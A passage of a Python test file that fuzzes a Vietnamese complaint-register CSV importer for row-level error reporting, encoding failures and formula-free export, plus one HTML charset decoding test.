    encoding = draw(st.sampled_from(("utf-8", "utf-8-sig", "cp1258")))
    body = to_cp1258(out.getvalue()) if encoding == "cp1258" else out.getvalue().encode(encoding)
    return RegisterCase(body, data_rows, bad_rows, good_cases, notes, titles)


class MemoryEngine:
    """The three calls an import makes of the engine, kept in a dict."""

    def __init__(self) -> None:
        self.docs: dict[str, dict[str, Any]] = {}

    def get(self, index: str, doc_id: str) -> dict[str, Any] | None:
        return self.docs.get(doc_id)

    def put(self, index: str, doc_id: str, doc: Any, refresh: bool = False) -> None:
        self.docs[doc_id] = dict(doc)

    def refresh(self, index: str) -> None:
        pass


@pytest.fixture(scope="module")
def register_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fuzz-register")


@fuzz(490)
@given(case=register_files())
def test_register_rows_are_imported_or_reported_with_row_and_reason(
    register_folder: Path, case: RegisterCase
) -> None:
    path = register_folder / "so-theo-doi.csv"
    path.write_bytes(case.body)
    engine = MemoryEngine()
    register = ComplaintRegister(engine, IndexNames("fuzz-"))  # type: ignore[arg-type]
    report = import_file(path, register, "fuzz", today=TODAY)
    event(f"{len(case.bad_rows)} bad rows of {ROWS_PER_FILE}")
    assert report.rows == case.data_rows
    by_row: dict[int, set[str]] = {}
    for error in report.errors:
        assert error.vi.strip() and error.en.strip()
        by_row.setdefault(error.row, set()).add(error.column)
    assert set(by_row) == set(case.bad_rows), report.errors
    for row, defect in case.bad_rows.items():
        assert case.titles[_DEFECT_COLUMN[defect]] in by_row[row], (defect, report.errors)
    if case.bad_rows:
        assert not report.written and not engine.docs
        return
    assert report.written and report.created == len(case.good_cases)
    stored = {doc["case_number"]: doc["complaint"] for doc in engine.docs.values()}
    assert sorted(stored) == sorted(case_key(c) for c in case.good_cases)
    for case_number, note in case.notes.items():
        assert stored[case_key(case_number)]["notes"] == normalize(note)
    exported = register_folder / "xuat.csv"
    export_file([Complaint.model_validate(c) for c in stored.values()], exported, "csv")
    with exported.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), "formula exported"


_REGISTER_HEAD = "Số hồ sơ,Loại đơn,Ngày nhận\r\n1/2025/KN,Khiếu nại,01/01/2025\r\n".encode()
_UNREADABLE = st.one_of(
    st.tuples(st.just(_REGISTER_HEAD.decode().encode("utf-16")), st.none()),
    st.tuples(st.just(_REGISTER_HEAD + b"2,KN,\x00\r\n"), st.none()),
    st.tuples(
        st.just("Sè hå s¬,Lo¹i ®¬n,Ngµy nhËn\r\n1/2025/KN,Kh¸nh,01/01/2025\r\n".encode("latin-1")),
        st.just(1),
    ),
    st.tuples(
        st.builds(
            lambda rows, junk: _REGISTER_HEAD + b"2/2025/KN,KN,02/01/2025\r\n" * rows + junk,
            st.integers(0, 5),
            st.binary(max_size=8).map(
                lambda junk: b"3," + junk.translate(None, b"\r\n\x00") + b",\x81,01/01/2025\r\n"
            ),
        ),
        st.just(-1),
    ),
    st.tuples(st.sampled_from((b"", b"\r\n\r\n", b"   ", b"Ten,Tuoi\r\nAn,30\r\n")), st.none()),
)


@fuzz(400)
@given(case=_UNREADABLE)
def test_an_unreadable_register_file_is_one_clear_error(
    register_folder: Path, case: tuple[bytes, int | None]
) -> None:
    """Refused whole, nothing written; a file that is not UTF-8 names the first line that is
    not (-1: the last line)."""
    body, line = case
    path = register_folder / "hong.csv"
    path.write_bytes(body)
    engine = MemoryEngine()
    with pytest.raises(TableFileError) as refused:
        import_file(path, ComplaintRegister(engine, IndexNames("fuzz-")), "fuzz", today=TODAY)  # type: ignore[arg-type]
    assert refused.value.vi.strip() and refused.value.en.strip()
    assert not engine.docs
    if line is not None:
        line = line if line > 0 else body.count(b"\n")
        assert f"dòng {line} không phải UTF-8" in refused.value.vi, refused.value


def test_a_page_whose_meta_says_utf16_is_read_as_utf8(services: Any) -> None:
    """Browsers read such a page as UTF-8 (a page that can read its own <meta> is not UTF-16);
    it was decoded as UTF-16 and rejected as "not an HTML document"."""
    outcome = _extract(services, _page("<title>Người dân khiếu nại</title>", charset="utf-16"))
    assert isinstance(outcome, EnrichedArticle), outcome
    assert _SENTENCES[0] in outcome.article.body
